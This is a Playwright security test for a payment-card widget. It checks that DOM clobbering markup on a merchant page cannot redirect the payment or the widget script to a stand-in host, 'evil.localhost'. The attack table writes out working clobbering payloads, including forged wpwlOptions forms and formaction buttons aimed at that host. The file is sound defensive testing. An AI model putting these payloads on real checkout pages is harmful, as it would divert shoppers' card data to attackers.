import type { Page } from '@playwright/test';
import { cardForm } from '../../pages/card-form.ts';
import { expect, test } from '../../support/fixtures.ts';

/*
 * Markup without scripts, as a shopper's comment or an advertisement could bring it into a page. Named elements
 * replace properties of `window`, `document` and forms (https://html.spec.whatwg.org/#named-access-on-the-window-object).
 */

type Attack = {
  readonly markup: string;
  /** Before the widget's script, or inside the form that the widget replaces. */
  readonly isInside?: boolean;
};

/** A blocked port: the browser starts requests to it, and none of them is sent. */
const evil = 'http://evil.localhost:9/';

const formProperties = [
  'action',
  'getAttribute',
  'submit',
  'querySelectorAll',
  'replaceWith',
  'textContent',
  'addEventListener',
];

const documentProperties = [
  'querySelectorAll',
  'body',
  'readyState',
  'documentElement',
  'baseURI',
  'defaultView',
  'addEventListener',
  'adoptedStyleSheets',
];

const scriptUrl = `${evil}v1/paymentWidgets.js`;

const attacks: Readonly<Record<string, readonly Attack[]>> = {
  'elements named like properties of the document': [
    { markup: `<img name="currentScript" src="${scriptUrl}">` },
    { markup: `<form name="currentScript"><input name="src" value="${scriptUrl}"></form>` },
    { markup: documentProperties.map((name) => `<img name="${name}">`).join('') },
  ],
  'elements and frames named wpwlOptions': [
    { markup: `<a id="wpwlOptions" href="${evil}">options</a>` },
    {
      markup: `<form id="wpwlOptions"><input name="baseUrl" value="${evil}">
        <input name="shopperResultUrl" value="${evil}"><input name="paymentTarget" value="evil"></form>`,
    },
    {
      markup: `<a id="wpwlOptions"></a><a id="wpwlOptions" name="baseUrl" href="${evil}"></a>`,
    },
    { markup: `<iframe name="wpwlOptions" srcdoc="<a id=baseUrl href=${evil}></a>"></iframe>` },
    { markup: `<iframe name="wpwlOptions" src="data:text/html,elsewhere"></iframe>` },
  ],
  'inputs named like properties of the form, and buttons with a formaction': [
    {
      markup: formProperties
        .map((name) => `<input type="hidden" name="${name}" value="${evil}">`)
        .join(''),
      isInside: true,
    },
    {
      markup: `<button formaction="${evil}">Pay now</button><input type="image" formaction="${evil}">`,
      isInside: true,
    },
  ],
};

/** Uses the keyboard only: role and attribute selectors do not work on a document with such elements. */
const fillAndPay = async (page: Page): Promise<void> => {
  const focus = (name: string): Promise<void> =>
    page.evaluate((found) => document.getElementsByName(found)[0]?.focus(), name);
  const { number, cvv } = cardForm(page);
  await number.fill('4200000000000091');
  await focus('card.expiry');
  await page.keyboard.insertText('1239');
  await focus('card.holder');
  await page.keyboard.insertText('Jane Jones');
  await cvv.fill('123');
  await page.keyboard.press('Enter');
};

test.describe('The widget', () => {
  // The images are requested from there.
  test.use({ allowedHosts: [new URL(evil).host] });

  for (const [what, rows] of Object.entries(attacks))
    test(
      `pays to its own origin on a page with ${what}`,
      { tag: '@firefox-full' },
      async ({ page, sandbox }) => {
        const requested: string[] = [];
        page.on('request', (request) => {
          if (request.resourceType() !== 'image') requested.push(request.url());
        });
        for (const { markup, isInside = false } of rows) {
          await test.step(markup, async () => {
            const checkoutId = await sandbox.createCheckout();
            const [before, inside] = isInside ? ['', markup] : [markup, ''];
            await sandbox.merchantPage(page, {
              body: `${before}<script src="${sandbox.scriptAddress(checkoutId)}"></script>
              <form action="/result?order=7" class="paymentWidgets" data-brands="VISA">${inside}</form>`,
            });
            await fillAndPay(page);

            const returned = await sandbox.result(page);
            expect(returned.get('order')).toBe('7');
            expect(returned.get('resourcePath')).toBe(`/v1/checkouts/${checkoutId}/payment`);
            expect((await sandbox.ledger(checkoutId)).payments).toHaveLength(1);
          });
        }
        expect(requested.filter((url) => url.startsWith(evil))).toEqual([]);
      },
    );
});
